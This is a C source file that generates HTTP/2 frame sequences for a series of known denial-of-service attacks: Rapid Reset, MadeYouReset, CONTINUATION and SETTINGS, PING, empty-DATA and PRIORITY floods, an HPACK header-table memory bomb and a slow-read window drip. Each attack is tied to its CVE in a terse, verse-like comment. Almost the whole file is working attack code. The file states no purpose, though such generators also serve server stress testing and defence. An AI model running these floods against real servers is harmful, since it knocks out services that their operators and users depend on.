/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * What attackers say in HTTP/2. Verse 0 begins the connection; the others are the attack.
 *
 * Names in parentheses are those under which the attack became known.
 */
#include <string.h>
#include "h2_frames.h"
#include "speech.h"

#define BLOCK_MAX      8192
#define DEFAULT_WINDOW 65535
#define WIDE_WINDOW    0x3fffffff
#define WINDOW_MAX     0x7fffffff
#define STREAMS_USUAL  100  /* that a server allows at once */
#define BOMB_VALUE     4000 /* with its name and 32 bytes of overhead the default table has room */
#define BOMB_FIELDS    3    /* of that size in a request: less than any server's limit */

static struct h2_text text_in(uint8_t *room, size_t size)
{
	return (struct h2_text){.bytes = room, .size = size};
}

/* Stream @index (from 0) of a client. */
static uint32_t stream(uint64_t index)
{
	return (uint32_t)(2 * index + 1) & WINDOW_MAX;
}

static void ask(struct h2_text *text, const struct speech *speech, uint32_t id, bool post)
{
	uint8_t bytes[BLOCK_MAX];
	struct h2_text block = text_in(bytes, sizeof(bytes));

	h2_request(&block, post, speech->path);
	h2_frame(text, H2_HEADERS, H2_END_HEADERS | (post ? 0 : H2_END_STREAM), id, block.bytes,
		 block.length);
}

/* Verse 0 of most. */
static size_t begin(uint8_t *room, uint32_t initial_window)
{
	struct h2_text text = text_in(room, VERSE_MAX);

	h2_begin(&text, initial_window);
	h2_number(&text, H2_WINDOW_UPDATE, 0, WIDE_WINDOW);
	return text.length;
}

size_t verse_h2_idle(const struct speech *speech, uint64_t number, uint8_t *room)
{
	(void)speech;
	return number ? 0 : begin(room, DEFAULT_WINDOW);
}

/* Requests like any other, as many as there can be. */
size_t verse_h2_requests(const struct speech *speech, uint64_t number, uint8_t *room)
{
	enum { EACH = 32 };
	struct h2_text text = text_in(room, VERSE_MAX);

	if (!number)
		return begin(room, DEFAULT_WINDOW);
	for (uint64_t i = 0; i < EACH; i++)
		ask(&text, speech, stream((number - 1) * EACH + i), false);
	return text.length;
}

/* Asks, and takes it back (Rapid Reset, CVE-2023-44487). */
size_t verse_h2_rapid_reset(const struct speech *speech, uint64_t number, uint8_t *room)
{
	enum { EACH = 64 };
	struct h2_text text = text_in(room, VERSE_MAX);

	if (!number)
		return begin(room, DEFAULT_WINDOW);
	for (uint64_t i = 0; i < EACH; i++) {
		uint32_t id = stream((number - 1) * EACH + i);

		ask(&text, speech, id, false);
		h2_number(&text, H2_RST_STREAM, id, H2_CANCEL);
	}
	return text.length;
}

/* Asks, and makes the server take it back, by a window that can't be (MadeYouReset, CVE-2025-8671):
 * one that grows by nothing, or too much. */
size_t verse_h2_provoked_reset(const struct speech *speech, uint64_t number, uint8_t *room)
{
	enum { EACH = 64 };
	struct h2_text text = text_in(room, VERSE_MAX);

	if (!number)
		return begin(room, DEFAULT_WINDOW);
	for (uint64_t i = 0; i < EACH; i++) {
		uint32_t id = stream((number - 1) * EACH + i);

		ask(&text, speech, id, true);
		h2_number(&text, H2_WINDOW_UPDATE, id, i % 2 ? 0 : WINDOW_MAX);
	}
	return text.length;
}

/* A header that never ends (CVE-2024-27316 and others). */
size_t verse_h2_continuation(const struct speech *speech, uint64_t number, uint8_t *room)
{
	enum { EACH = 128 };
	struct h2_text text = text_in(room, VERSE_MAX);
	uint8_t bytes[BLOCK_MAX];
	struct h2_text block = text_in(bytes, sizeof(bytes));

	if (!number) {
		text.length = begin(room, DEFAULT_WINDOW);
		h2_request(&block, false, speech->path);
		h2_frame(&text, H2_HEADERS, H2_END_STREAM, 1, block.bytes, block.length);
		return text.length;
	}
	h2_field(&block, "x-filler", "filler", strlen("filler"));
	for (int i = 0; i < EACH; i++)
		h2_frame(&text, H2_CONTINUATION, 0, 1, block.bytes, block.length);
	return text.length;
}

/* Each has to be applied and acknowledged (CVE-2019-9515). */
size_t verse_h2_settings(const struct speech *speech, uint64_t number, uint8_t *room)
{
	enum { EACH = 512 };
	struct h2_text text = text_in(room, VERSE_MAX);
	const uint8_t window[6] = {0, H2_INITIAL_WINDOW_SIZE, 0, 0, 0xff, 0xff};

	(void)speech;
	if (!number)
		return begin(room, DEFAULT_WINDOW);
	for (int i = 0; i < EACH; i++)
		h2_frame(&text, H2_SETTINGS, 0, 0, window, sizeof(window));
	return text.length;
}

/* Each has to be answered; who does not read makes the answers wait (CVE-2019-9512). */
size_t verse_h2_ping(const struct speech *speech, uint64_t number, uint8_t *room)
{
	enum { EACH = 512 };
	struct h2_text text = text_in(room, VERSE_MAX);

	(void)speech;
	if (!number)
		return begin(room, DEFAULT_WINDOW);
	for (int i = 0; i < EACH; i++)
		h2_frame(&text, H2_PING, 0, 0, "whatever", 8);
	return text.length;
}

/* Frames that carry nothing and end nothing (CVE-2019-9518). */
size_t verse_h2_empty(const struct speech *speech, uint64_t number, uint8_t *room)
{
	enum { EACH = 1024 };
	struct h2_text text = text_in(room, VERSE_MAX);

	if (!number) {
		text.length = begin(room, DEFAULT_WINDOW);
		ask(&text, speech, 1, true);
		return text.length;
	}
	for (int i = 0; i < EACH; i++)
		h2_frame(&text, H2_DATA, 0, 1, NULL, 0);
	return text.length;
}

/* Rearranges a tree that nobody uses any more (CVE-2019-9513). */
size_t verse_h2_priority(const struct speech *speech, uint64_t number, uint8_t *room)
{
	enum { EACH = 512 };
	struct h2_text text = text_in(room, VERSE_MAX);
	uint8_t weight[5] = {0};

	(void)speech;
	if (!number)
		return begin(room, DEFAULT_WINDOW);
	for (uint64_t i = 0; i < EACH; i++) {
		uint64_t index = number * EACH + i;

		weight[3] = (uint8_t)(index % 7 * 2); /* another parent each time */
		weight[4] = (uint8_t)index;
		h2_frame(&text, H2_PRIORITY, 0, stream(100 + index % 50), weight, sizeof(weight));
	}
	return text.length;
}

/* A field that is told once, into the table. */
static void plant(struct h2_text *text, const struct speech *speech)
{
	char value[BOMB_VALUE];
	uint8_t bytes[BLOCK_MAX];
	struct h2_text block = text_in(bytes, sizeof(bytes));

	memset(value, 'v', sizeof(value));
	h2_request(&block, false, speech->path);
	h2_field_kept(&block, "x-bomb", value, sizeof(value));
	h2_frame(text, H2_HEADERS, H2_END_HEADERS | H2_END_STREAM, 1, block.bytes, block.length);
}

/* Then a byte names it: requests that are small on the wire and large in memory, whose answers have
 * no window to leave by, so that they stay (CVE-2016-6581, CVE-2019-9517). */
size_t verse_h2_bomb(const struct speech *speech, uint64_t number, uint8_t *room)
{
	struct h2_text text = text_in(room, VERSE_MAX);
	uint8_t bytes[BLOCK_MAX];
	struct h2_text block = text_in(bytes, sizeof(bytes));

	if (!number) {
		h2_begin(&text, 0);
		plant(&text, speech);
		return text.length;
	}
	if (number > 1)
		return 0;
	h2_request(&block, false, speech->path);
	h2_repeat(&block, H2_NEWEST, BOMB_FIELDS);
	for (uint64_t i = 1; i < STREAMS_USUAL; i++)
		h2_frame(&text, H2_HEADERS, H2_END_HEADERS | H2_END_STREAM, stream(i), block.bytes,
			 block.length);
	return text.length;
}

/* The same without moderation: each frame stands for thirty megabytes. */
size_t verse_h2_bomb_large(const struct speech *speech, uint64_t number, uint8_t *room)
{
	struct h2_text text = text_in(room, VERSE_MAX);
	uint8_t bytes[BLOCK_MAX];
	struct h2_text block = text_in(bytes, sizeof(bytes));

	if (!number) {
		h2_begin(&text, 0);
		plant(&text, speech);
		return text.length;
	}
	h2_request(&block, false, speech->path);
	h2_repeat(&block, H2_NEWEST, BLOCK_MAX - block.length);
	h2_frame(&text, H2_HEADERS, H2_END_HEADERS | H2_END_STREAM, stream(number), block.bytes,
		 block.length);
	return text.length;
}

/* Large answers, taken a byte at a time (CVE-2019-9511). */
size_t verse_h2_drip(const struct speech *speech, uint64_t number, uint8_t *room)
{
	struct h2_text text = text_in(room, VERSE_MAX);

	if (!number)
		h2_begin(&text, 0);
	for (uint64_t i = 0; i < STREAMS_USUAL; i++) {
		if (number)
			h2_number(&text, H2_WINDOW_UPDATE, stream(i), 1);
		else
			ask(&text, speech, stream(i), false);
	}
	return text.length;
}
